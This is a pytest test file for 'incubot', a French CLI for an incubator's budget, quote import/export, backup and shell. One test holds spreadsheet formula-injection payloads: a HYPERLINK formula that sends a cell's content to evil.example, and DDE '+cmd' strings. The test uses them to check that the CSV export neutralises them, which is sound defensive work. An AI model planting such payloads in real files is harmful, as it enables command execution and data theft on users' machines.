"""The `incubot` command line as an operator uses it: import, budget --json, export, shell --demo."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from bot.cli import main
from bot.demo import SAMPLE_QUOTES
from handlers.i18n import Translator

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "convention-culture.toml"
ENV_KEYS = ("DATABASE_URL", "INCUBOT_LANGUAGE", "INCUBOT_TIMEZONE", "PORT", "SLACK_BOT_TOKEN", "SLACK_SIGNING_SECRET",
            "SLACK_APP_TOKEN", "MATTERMOST_URL", "MATTERMOST_BOT_TOKEN", "MATTERMOST_COMMAND_TOKENS", "INCUBOT_SECRET")


@pytest.fixture
def empty_database(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A SQLite file not made yet, in a temporary working directory, named by DATABASE_URL: a first run."""
    for key in ENV_KEYS:
        monkeypatch.delenv(key, raising=False)
    monkeypatch.chdir(tmp_path)
    url = f"sqlite:///{tmp_path / 'incubot.db'}"
    monkeypatch.setenv("DATABASE_URL", url)
    return url


@pytest.fixture
def database(empty_database: str, tmp_path: Path, sqlite_template: Path) -> str:
    """:func:`empty_database` already migrated (a copy of the session's template): what the command does,
    not the first run's migrations again (0.3 s a test); a first run has ``empty_database``."""
    shutil.copyfile(sqlite_template, tmp_path / "incubot.db")
    return empty_database


def incubot(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """Run ``incubot ARGS`` in this process; exit code, stdout, stderr."""
    capsys.readouterr()
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def dump(url: str) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table, to compare a database before and after."""
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        names = [n for n in sa.inspect(conn).get_table_names() if n != "alembic_version"]
        rows = {n: sorted(map(tuple, conn.execute(sa.text(f'SELECT * FROM "{n}"')).all()), key=repr) for n in names}
    engine.dispose()
    return rows


def test_import_twice_changes_nothing_the_second_time(empty_database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """`incubot import FILE` loads the example; the second run says nothing changed and leaves the database as is."""
    code, out, _ = incubot(capsys, "import", str(EXAMPLE))
    assert code == 0 and "importé" in out and "3 dotations créées" in out
    before = dump(empty_database)
    assert len(before["person"]) == 3 and len(before["allocation"]) == 3

    code, out, _ = incubot(capsys, "import", str(EXAMPLE))
    assert code == 0 and "rien n'a changé" in out
    assert dump(empty_database) == before


def test_budget_json_prints_the_exact_contract(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """`incubot budget --year 2022 --json` on the example prints exactly the SPEC's line (version 2 keys)."""
    incubot(capsys, "import", str(EXAMPLE))
    code, out, _ = incubot(capsys, "budget", "--year", "2022", "--json")
    assert code == 0
    assert out == ('{"year": 2022, "ae": {"allocated": "1500000.00", "reserved": "0.00", "engaged": "0.00", '
                   '"committed": "0.00", "available": "1500000.00"}, "cp": {"allocated": "1700000.00", '
                   '"to_pay": "0.00", "consumed": "0.00", "available": "1700000.00"}, "restes_a_payer": "0.00"}\n')
    code, out, _ = incubot(capsys, "budget", "--year", "2021")
    assert code == 0 and "allouées 800 000,00 €" in out and "alloués 650 000,00 €" in out


BROKEN = {
    "an unknown intrapreneur after good sections": (
        EXAMPLE.read_text(encoding="utf-8").replace('name = "Camille Martin"', 'name = "Camille Martin-Durand"')
        .replace('intrapreneurs = ["claire.petit"]', 'intrapreneurs = ["claire.petit", "nobody"]'),
        "startup[1].intrapreneurs : personne inconnue « nobody »"),
    "a float amount": (EXAMPLE.read_text(encoding="utf-8").replace('ae = "1500000"', "ae = 1500000.0"),
                       "allocation[3].ae :"),
    "not TOML at all": ("<html>not toml</html>", "fichier : TOML invalide"),
}


@pytest.mark.parametrize(("text", "message"), BROKEN.values(), ids=BROKEN.keys())
def test_a_broken_file_is_refused_whole_with_key_and_reason(database: str, capsys: pytest.CaptureFixture[str],
                                                            tmp_path: Path, text: str, message: str) -> None:
    """A broken file changes nothing (not even its good parts) and says where and why, without a traceback."""
    incubot(capsys, "import", str(EXAMPLE))
    before = dump(database)
    broken = tmp_path / "broken.toml"
    broken.write_text(text, encoding="utf-8")
    code, out, err = incubot(capsys, "import", str(broken))
    assert code == 2
    assert "fichier refusé, rien n'a été modifié" in err and message in err
    assert "Traceback" not in err + out
    assert dump(database) == before


def test_a_missing_file_is_one_sentence(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Importing a file that does not exist is one French sentence, exit code 2."""
    code, _, err = incubot(capsys, "import", "nulle-part.toml")
    assert code == 2 and "impossible de lire nulle-part.toml" in err and "Traceback" not in err


def test_an_allocation_below_what_is_committed_is_refused(database: str, capsys: pytest.CaptureFixture[str],
                                                          tmp_path: Path) -> None:
    """Re-importing a year's AE below its commitments is refused whole, naming the year and the amounts
    (not the CHECK constraint), and changes nothing."""
    incubot(capsys, "demo")
    before = dump(database)
    from bot.demo import demo_reference_text

    with sa.create_engine(database).connect() as conn:
        committed_year = conn.execute(sa.text(
            "SELECT year FROM allocation WHERE ae_committed_cents > 0 ORDER BY year DESC")).scalar_one()
    text = demo_reference_text(committed_year).replace('ae = "1500000"', 'ae = "1"')
    lowered = tmp_path / "lowered.toml"
    lowered.write_text(text, encoding="utf-8")
    code, _, err = incubot(capsys, "import", str(lowered))
    assert code == 2 and "CHECK" not in err and "allocation_ae_ceiling" not in err
    assert re.search(rf"dotation {committed_year} : les AE passeraient à 1,00 €, sous les [0-9  ]+,[0-9]{{2}} € "
                     r"déjà engagées\.", err), err
    assert dump(database) == before


def exported(capsys: pytest.CaptureFixture[str], fmt: str) -> list[dict[str, Any]]:
    code, out, _ = incubot(capsys, "export", "--format", fmt)
    assert code == 0
    return json.loads(out) if fmt == "json" else list(csv.DictReader(io.StringIO(out)))


def test_export_has_every_quote_with_state_amounts_dates_actors_and_chorus(
        database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """`incubot export --format json|csv` lists every quote with its state, amounts, dates, actors, CHORUS refs,
    and its EJ and BC once ordered."""
    incubot(capsys, "demo")
    rows = exported(capsys, "json")
    with sa.create_engine(database).connect() as conn:
        quotes = {r.reference: r for r in conn.execute(sa.text("SELECT * FROM quote")).all()}
    assert {r["reference"] for r in rows} == set(quotes) and len(rows) == len(SAMPLE_QUOTES)
    assert {r["status"] for r in rows} == {"pending", "validated", "ordered", "closed", "refused", "withdrawn"}
    for row in rows:
        quote = quotes[row["reference"]]
        assert row["status"] == quote.status
        assert row["amount_ttc"] == f"{quote.amount_cents // 100}.{quote.amount_cents % 100:02d}"
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d.*", row["submitted_at"])
        assert row["submitted_by"] in ("Léa Dupont", "Thomas Roux")
        assert row["startup"] and row["supplier"] and row["object"]
        if quote.status == "pending":
            assert row["decided_by"] == "" and row["decided_at"] == ""
        else:
            assert row["decided_by"] in ("Claire Petit", "Julien Moreau", "Sophie Laurent", "Nadia Benali") \
                or (quote.status == "withdrawn" and row["decided_by"] == "Thomas Roux")
            assert row["decided_at"]
        if quote.status in ("ordered", "closed"):
            assert re.fullmatch(r"\d{10}", row["ej"]) and row["ej"] == quote.ej and row["bc"] == quote.bc
        else:
            assert row["ej"] == "" and row["bc"] == ""
        assert row["chorus_axe_ministeriel"] == "02 – FONCTIONNEMENT"
        assert row["chorus_domaine_fonctionnel"] == "0224-07-13"
        assert row["chorus_centre_financier"] == "0224-CSGC-ANUM"
        assert row["chorus_activite"] == "022403080101"
        assert row["chorus_centre_de_cout"] == "CCCSG21075"
    refused = [r for r in rows if r["status"] == "refused"]
    assert refused[0]["refusal_reason"]
    ht = [r for r in rows if r["amount_ht"]]
    assert ht and all(r["amount_ht"] for r in ht)
    certified = [r for r in rows if r["certified"] not in ("", "0.00")]
    assert certified

    as_csv = exported(capsys, "csv")
    assert [{k: str(v) for k, v in r.items()} for r in rows] == as_csv


HOSTILE = {
    "supplier": '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
    "object": "+cmd|' /C calc'!A0",
    "refusal_reason": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them_raw(
        database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A supplier typed as `=HYPERLINK(…)` is exported as text (`'=HYPERLINK(…)`) in CSV, raw in JSON;
    amounts stay numbers."""
    incubot(capsys, "demo")
    engine = sa.create_engine(database)
    with engine.begin() as conn:
        reference = conn.execute(sa.text("SELECT reference FROM quote WHERE status = 'refused'")).scalars().first()
        conn.execute(sa.text("UPDATE quote SET supplier = :supplier, object = :object, refusal_reason = :refusal_reason"
                             " WHERE reference = :reference"), {**HOSTILE, "reference": reference})
        conn.execute(sa.text("UPDATE quote SET supplier = '-2+3', object = ' =1+1' WHERE reference <> :reference"),
                     {"reference": reference})
    engine.dispose()
    as_json = {r["reference"]: r for r in exported(capsys, "json")}
    as_csv = {r["reference"]: r for r in exported(capsys, "csv")}
    for key, value in HOSTILE.items():
        assert as_json[reference][key] == value
        assert as_csv[reference][key] == "'" + value
    for ref, row in as_csv.items():
        if ref != reference:
            assert row["supplier"] == "'-2+3" and row["object"] == "' =1+1"
        assert re.fullmatch(r"\d+\.\d\d", row["amount_ttc"]), row["amount_ttc"]
        assert row["amount_ttc"] == as_json[ref]["amount_ttc"]


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+1", "'=1+1"), ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"),
    ("-12.50", "-12.50"), ("-1500000.00", "-1500000.00"), ("12.50", "12.50"), ("0", "0"), (42, "42"), (None, ""),
    ("Scopyleft", "Scopyleft"), ("a=b", "a=b"), ("", ""),
])
def test_a_csv_cell_is_text_a_spreadsheet_never_runs(cell: object, safe: str) -> None:
    """Leading =, +, -, @, tab, CR get a leading apostrophe (OWASP); a plain number, negative too, stays a number."""
    from handlers.export import spreadsheet_cell

    assert spreadsheet_cell(cell) == safe


def test_export_of_an_empty_database_is_a_header(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """No quote yet: CSV is just a header (every column), JSON an empty list."""
    incubot(capsys, "db", "upgrade")
    assert exported(capsys, "json") == []
    code, out, _ = incubot(capsys, "export", "--format", "csv")
    assert code == 0 and out.startswith("reference,status,") and len(out.splitlines()) == 1


def test_shell_demo_lets_a_newcomer_submit_and_validate(empty_database: str, capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """`incubot shell --demo`: aide, budget, startups, devis…, `:as julien.moreau`, the Valider button's number."""
    typed = ["aide", "budget", "startups", "devis dedale; 12 500 HT; Scopyleft; Sprint 7", ":as julien.moreau",
             "1", "budget"]
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n".join(typed) + "\n"))
    code, out, err = incubot(capsys, "shell", "--demo")
    assert code == 0, err
    assert (tmp_path / "incubot-demo.db").exists()
    assert "Bonjour Léa Dupont" in out and "Vos rôles : coach de" in out
    assert "AE : allouées 1 500 000,00 €" in out and "Startups de l'incubateur (4)" in out
    ref = re.search(r"Devis (D-\d{4}-\d{4}) enregistré : 15 000,00 € TTC \(12 500,00 € HT\) pour Dédale", out)
    assert ref, out
    assert "📨 Message direct pour Julien Moreau" in out and "[1] Valider   [2] Refuser" in out
    assert "Vous parlez maintenant en tant que Julien Moreau" in out
    assert f"C'est fait : Le devis {ref.group(1)} a été validé par Julien Moreau" in out
    assert "📨 Message direct pour Léa Dupont" in out and "mis à jour" in out
    assert "Traceback" not in out + err


def test_the_command_runs_as_a_module_without_traceback(tmp_path: Path) -> None:
    """`python -m bot import broken.toml` in a fresh directory: exit 2, key and reason, no traceback."""
    broken = tmp_path / "broken.toml"
    broken.write_text('[[allocation]]\nyear = 2022\nae = 1.5\n', encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k not in ENV_KEYS}
    env["DATABASE_URL"] = f"sqlite:///{tmp_path / 'incubot.db'}"
    env["PYTHONPATH"] = str(ROOT)
    done = subprocess.run([sys.executable, "-m", "bot", "import", str(broken)], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    assert "allocation[1].ae" in done.stderr and "rien n'a été modifié" in done.stderr
    assert "Traceback" not in done.stderr + done.stdout


def test_conflicts_with_the_database_are_refused_with_the_key(database: str, capsys: pytest.CaptureFixture[str],
                                                              tmp_path: Path) -> None:
    """A Slack id already given to someone else in the database, or allocations with no convention anywhere,
    are refused whole with the key and the reason (not a traceback, not a wrong explanation)."""
    orphan = tmp_path / "orphan.toml"
    orphan.write_text('[[allocation]]\nyear = 2022\nae = "100"\n', encoding="utf-8")
    code, out, err = incubot(capsys, "import", str(orphan))
    assert code == 2 and "allocation : aucune convention dans le fichier ni dans la base" in err
    assert "Traceback" not in out + err

    incubot(capsys, "import", str(EXAMPLE))
    before = dump(database)
    renamed = tmp_path / "renamed.toml"
    renamed.write_text(EXAMPLE.read_text(encoding="utf-8").replace('id = "lea.dupont"', 'id = "lea.durand"')
                       .replace('coaches = ["lea.dupont"]', 'coaches = ["lea.durand"]'), encoding="utf-8")
    code, _, err = incubot(capsys, "import", str(renamed))
    assert code == 2
    assert "person.slack_id : « U01LEA » est déjà donné à lea.dupont dans la base" in err
    assert dump(database) == before


def test_shell_forms_ask_each_field_and_ask_again_only_the_wrong_one(
        database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """In the terminal `devis` alone asks field by field; a wrong amount is asked again, the rest is kept."""
    typed = ["devis", "2", "-5", "", "Arawa", "Audit", "3 000"]
    monkeypatch.setattr(sys, "stdin", io.StringIO("\n".join(typed) + "\n"))
    code, out, err = incubot(capsys, "shell", "--demo")
    assert code == 0, err
    assert "— Nouveau devis —" in out and "2. Dédale" in out
    assert "⚠️  Le montant doit être positif (-5 est négatif)." in out
    assert re.search(r"Devis D-\d{4}-\d{4} enregistré : 3 000,00 € TTC pour Dédale", out), out


def scripted(answers: list[str | type[BaseException]], asked: list[str]) -> Any:
    """An ``input`` that gives each answer in turn, raising the exceptions (Ctrl-C, Ctrl-D) where listed."""
    queue = list(answers)

    def ask(prompt: str = "") -> str:
        asked.append(prompt)
        if not queue:
            raise AssertionError(f"nothing left to answer to {prompt!r}")
        answer = queue.pop(0)
        if isinstance(answer, type):
            raise answer()
        return answer

    return ask


def shell(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    """``incubot shell ARGS``; a Ctrl-C that escapes it fails the test instead of stopping pytest."""
    try:
        return incubot(capsys, "shell", *args)
    except KeyboardInterrupt:
        pytest.fail("Ctrl-C escaped the shell (a traceback for the person at the terminal)")


def test_ctrl_c_in_a_form_abandons_it_and_the_shell_goes_on(database: str, capsys: pytest.CaptureFixture[str],
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C while a form asks a field: « Formulaire abandonné », nothing stored, back at the prompt;
    Ctrl-C at the prompt ends the shell cleanly (exit 0, no traceback)."""
    import builtins

    asked: list[str] = []
    monkeypatch.setattr(builtins, "input", scripted(["devis", "2", KeyboardInterrupt, "budget",
                                                     KeyboardInterrupt], asked))
    code, out, err = shell(capsys, "--demo")
    assert code == 0, err
    assert "— Nouveau devis —" in out
    assert "Formulaire abandonné : rien n'a été enregistré." in out
    assert "AE : allouées 1 500 000,00 €" in out.split("Formulaire abandonné")[1]  # the prompt came back
    assert sum("Léa Dupont >" in prompt for prompt in asked) == 3
    assert "Traceback" not in out + err and "KeyboardInterrupt" not in out + err
    with sa.create_engine(f"sqlite:///{Path('incubot-demo.db').resolve()}").connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM quote WHERE supplier = ''")).scalar_one() == 0
        assert conn.execute(sa.text("SELECT count(*) FROM quote")).scalar_one() == len(SAMPLE_QUOTES)  # no new one


@pytest.mark.parametrize("stop", [EOFError, KeyboardInterrupt])
def test_ctrl_c_or_ctrl_d_at_the_prompt_ends_the_shell_cleanly(database: str, capsys: pytest.CaptureFixture[str],
                                                               monkeypatch: pytest.MonkeyPatch,
                                                               stop: type[BaseException]) -> None:
    """At the prompt, Ctrl-D or Ctrl-C ends `incubot shell` with exit code 0 and no traceback."""
    import builtins

    monkeypatch.setattr(builtins, "input", scripted(["aide", stop], []))
    code, out, err = shell(capsys, "--demo")
    assert code == 0 and "Bonjour Léa Dupont" in out
    assert "Traceback" not in out + err


def test_ctrl_c_outside_the_shell_prompt_ends_the_command_without_a_traceback(
        database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C during a long command (an import, the start of the shell): exit code 130, no traceback."""
    import bot.cli.entry

    def interrupted(*_args: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(bot.cli.entry, "_run", interrupted)
    try:
        code, out, err = incubot(capsys, "import", str(EXAMPLE))
    except KeyboardInterrupt:
        pytest.fail("Ctrl-C escaped incubot")
    assert code == 130 and "Traceback" not in out + err


def test_ctrl_c_while_a_command_runs_comes_back_to_the_prompt() -> None:
    """Ctrl-C while the bot works on a line: the shell says it was interrupted and asks again."""
    from bot.platforms.console import Console
    from handlers.types import Reply

    class Slow:
        calls = 0
        t = Translator()

        def message(self, request: object) -> Reply:
            self.calls += 1
            if self.calls == 1:
                raise KeyboardInterrupt
            return Reply("Réponse.")

    out = io.StringIO()
    console = Console(Slow(), sessions=lambda: None, person_id="lea.dupont", out=out,  # type: ignore[arg-type]
                      ask=scripted(["budget", "budget", EOFError], []))
    console._name = lambda person_id: "Léa"  # type: ignore[method-assign]
    try:
        console.loop()
    except KeyboardInterrupt:
        pytest.fail("Ctrl-C escaped the shell")
    assert "Interrompu. Ce qui était déjà enregistré le reste : vérifiez avec « en-attente »." in out.getvalue()
    assert "Réponse." in out.getvalue()


def test_shell_gives_up_a_form_whose_errors_it_cannot_ask_again() -> None:
    """A form error on a field the form does not have abandons the form instead of looping forever."""
    from bot.platforms.console import Console
    from handlers.types import Form, Input, Reply

    class Stub:
        submissions = 0
        t = Translator()

        def submit(self, submission: object) -> Reply:
            self.submissions += 1
            return Reply("", errors={"elsewhere": "Erreur ailleurs."})

    out = io.StringIO()
    stub = Stub()
    console = Console(stub, sessions=lambda: None, person_id="lea.dupont", out=out,  # type: ignore[arg-type]
                      ask=lambda prompt: "x")
    console.fill(Form("cb", "Titre", "OK", (Input("a", "A"),)))
    assert stub.submissions == 1 and "Formulaire abandonné" in out.getvalue()


def test_a_choice_out_of_range_is_refused_at_once_on_that_field(
        database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """In the terminal form, startup « 9 » of four is asked again right away, before the amount is asked."""
    import builtins

    asked: list[str] = []
    monkeypatch.setattr(builtins, "input", scripted(["devis", "9", "2", "3 000", "", "Arawa", "Audit", EOFError],
                                                    asked))
    code, out, err = shell(capsys, "--demo")
    assert code == 0, err
    assert out.count("⚠️  Tapez un numéro de 1 à") == 1
    refused_at = next(i for i, prompt in enumerate(asked) if "Montant" in prompt)
    assert sum(1 for prompt in asked[:refused_at] if "Startup" in prompt) == 2  # asked twice before the amount
    assert re.search(r"Devis D-\d{4}-\d{4} enregistré : 3 000,00 € TTC pour Dédale", out), out


def test_commands_to_type_lose_their_backticks_in_the_terminal() -> None:
    """`aide` lists commands as `budget [ANNÉE] [STARTUP]`: the terminal shows them without backticks."""
    from bot.platforms.console import render_reply
    from handlers.types import Reply

    shown = render_reply(Reply("• `budget [ANNÉE] [STARTUP]` — AE et CP"), bold=lambda s: f"<b>{s}</b>")
    assert shown == "• <b>budget [ANNÉE] [STARTUP]</b> — AE et CP"


def test_the_shell_history_is_kept_per_database(tmp_path: Path) -> None:
    """A SQLite database keeps its history beside it; a PostgreSQL one in the state folder, without its password."""
    from bot.platforms.console import history_file

    assert history_file(f"sqlite:///{tmp_path}/incubot.db") == tmp_path / "incubot.db.history"
    pg = history_file("postgresql+psycopg://u:secret@db:5432/incubot")
    assert pg.parent.name == "incubot" and "secret" not in str(pg)
    assert pg != history_file("postgresql+psycopg://u:secret@db:5432/other")


def test_budget_without_a_year_is_this_years_and_an_unknown_year_is_refused(
        database: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """`incubot budget` answers for the current year like the chat; a year with no allocation exits 2 and
    names the known ones."""
    incubot(capsys, "import", str(EXAMPLE))
    code, out, err = incubot(capsys, "budget", "--year", "2019", "--json")
    assert code == 2 and out == ""
    assert "aucune dotation pour 2019. Années connues : 2020, 2021, 2022." in err
    code, out, err = incubot(capsys, "budget")
    this_year = datetime.now().year
    assert (code, out) == (2, "") and f"aucune dotation pour {this_year}" in err  # the example stops in 2022


def test_db_upgrade_says_what_it_did(empty_database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """`incubot db upgrade` on a new database creates it, then says it is up to date."""
    code, out, _ = incubot(capsys, "db", "upgrade")
    assert code == 0 and out.startswith("Base créée au schéma de la révision ")
    code, out, _ = incubot(capsys, "db", "upgrade")
    assert code == 0 and out.startswith("Schéma déjà à jour (révision ")


def test_a_reading_command_does_not_create_an_empty_database(empty_database: str, capsys: pytest.CaptureFixture[str],
                                                              tmp_path: Path) -> None:
    """`incubot budget` where there is no database refuses and creates no file, instead of answering « nothing »."""
    code, out, err = incubot(capsys, "budget")
    assert code == 2 and out == "" and "aucune base de données à" in err and "incubot import" in err
    assert not (tmp_path / "incubot.db").exists()
    code, _, err = incubot(capsys, "import", str(EXAMPLE))
    assert code == 0 and "nouvelle base de données créée" in err


def test_the_command_line_speaks_french_even_in_argparse(database: str, capsys: pytest.CaptureFixture[str]) -> None:
    """A wrong choice and a missing argument are explained in French, usage included."""
    with pytest.raises(SystemExit) as exit_:
        incubot(capsys, "export", "--format", "pdf")
    err = capsys.readouterr().err
    assert exit_.value.code == 2
    assert err.startswith("utilisation : ") and "choix invalide : 'pdf' (choisissez parmi 'csv', 'json', 'xlsx')" in err
    with pytest.raises(SystemExit):
        incubot(capsys, "import")
    assert "ces arguments sont obligatoires : FICHIER" in capsys.readouterr().err


def test_backup_and_restore_of_a_sqlite_database(database: str, capsys: pytest.CaptureFixture[str],
                                                 tmp_path: Path) -> None:
    """`incubot backup FILE` copies the database; `restore` refuses to overwrite without --force, then puts it back."""
    incubot(capsys, "import", str(EXAMPLE))
    saved = tmp_path / "sauvegarde.db"
    code, out, _ = incubot(capsys, "backup", str(saved))
    assert code == 0 and "Sauvegarde écrite" in out
    before = dump(database)
    assert dump(f"sqlite:///{saved}") == before
    code, _, err = incubot(capsys, "backup", str(saved))
    assert code == 2 and "existe déjà : ajoutez --force" in err

    engine = sa.create_engine(database)
    with engine.begin() as conn:
        conn.execute(sa.text("DELETE FROM committee"))
    engine.dispose()
    code, _, err = incubot(capsys, "restore", str(saved))
    assert code == 2 and "existe déjà : ajoutez --force" in err
    assert dump(database) != before
    code, out, _ = incubot(capsys, "restore", str(saved), "--force")
    assert code == 0 and "restaurée" in out and dump(database) == before

    junk = tmp_path / "junk.db"
    junk.write_text("pas une base")
    code, _, err = incubot(capsys, "restore", str(junk), "--force")
    assert code == 2 and "n'est pas une sauvegarde d'incubot" in err and dump(database) == before


def test_the_command_line_speaks_english_when_set(database: str, capsys: pytest.CaptureFixture[str],
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """With INCUBOT_LANGUAGE=en, `incubot import` and `incubot budget` answer in English words with English
    amounts, and a wrong option is explained in argparse's English; French stays the default."""
    monkeypatch.setenv("INCUBOT_LANGUAGE", "en")
    code, out, _ = incubot(capsys, "import", str(EXAMPLE))
    assert code == 0 and "imported: 1 convention created, 3 allocations created" in out, out
    code, out, _ = incubot(capsys, "budget", "--year", "2021")
    assert code == 0 and out.splitlines() == [
        "AE 2021: allocated €800,000.00, reserved €0.00, committed €0.00, available €800,000.00",
        "CP 2021: allocated €650,000.00, to pay €0.00, spent €0.00, available €650,000.00",
        "Outstanding: €0.00 (all years; €0.00 of it on the orders of 2021)"]
    with pytest.raises(SystemExit):
        incubot(capsys, "export", "--format", "pdf")
    err = capsys.readouterr().err
    assert err.startswith("usage: ") and "invalid choice: 'pdf'" in err and "utilisation" not in err
    monkeypatch.delenv("INCUBOT_LANGUAGE")
    code, out, _ = incubot(capsys, "budget", "--year", "2021")
    assert "AE 2021 : allouées 800 000,00 €" in out


def test_the_terminal_frames_speak_the_language_of_the_bot() -> None:
    """The console's fact lines and the preview of `incubot reminders send` go through the catalogs:
    « Montant : 3 000,00 € » in French, « Amount: … » and « → direct message for … » in English."""
    from bot.platforms.console import render_reply
    from bot.scheduler import StdoutSender
    from handlers.types import Fact, Reply

    reply = Reply("Devis", facts=(Fact("Montant", "3 000,00 €"),))
    assert render_reply(reply, t=Translator("fr")).splitlines()[1] == "  Montant : 3 000,00 €"
    assert render_reply(reply, t=Translator("en")).splitlines()[1] == "  Montant: 3 000,00 €"
    out = io.StringIO()
    StdoutSender(out, t=Translator("en")).post_direct("Julien Moreau", Reply("Hello"))
    assert out.getvalue().startswith("→ direct message for Julien Moreau\nHello")


def test_a_bot_token_slack_refuses_stops_serve_with_one_sentence(database: str, monkeypatch: pytest.MonkeyPatch,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    """`incubot serve` with a bot token Slack refuses stops at once: one French sentence naming the setting, exit
    code 2, no traceback (Bolt's own check raised a BoltError out of the process)."""
    from tests.fake_slack import FakeSlack
    from tests.servers import free_port

    with FakeSlack() as fake:
        for key, value in {"SLACK_BOT_TOKEN": "xoxb-revoked", "SLACK_SIGNING_SECRET": "secret",
                           "SLACK_API_URL": fake.api_url}.items():
            monkeypatch.setenv(key, value)
        code, _, err = incubot(capsys, "serve", "--port", str(free_port()), "--no-scheduler")
    assert code == 2, err
    assert "incubot : Slack refuse SLACK_BOT_TOKEN (invalid_auth)" in err and "Traceback" not in err
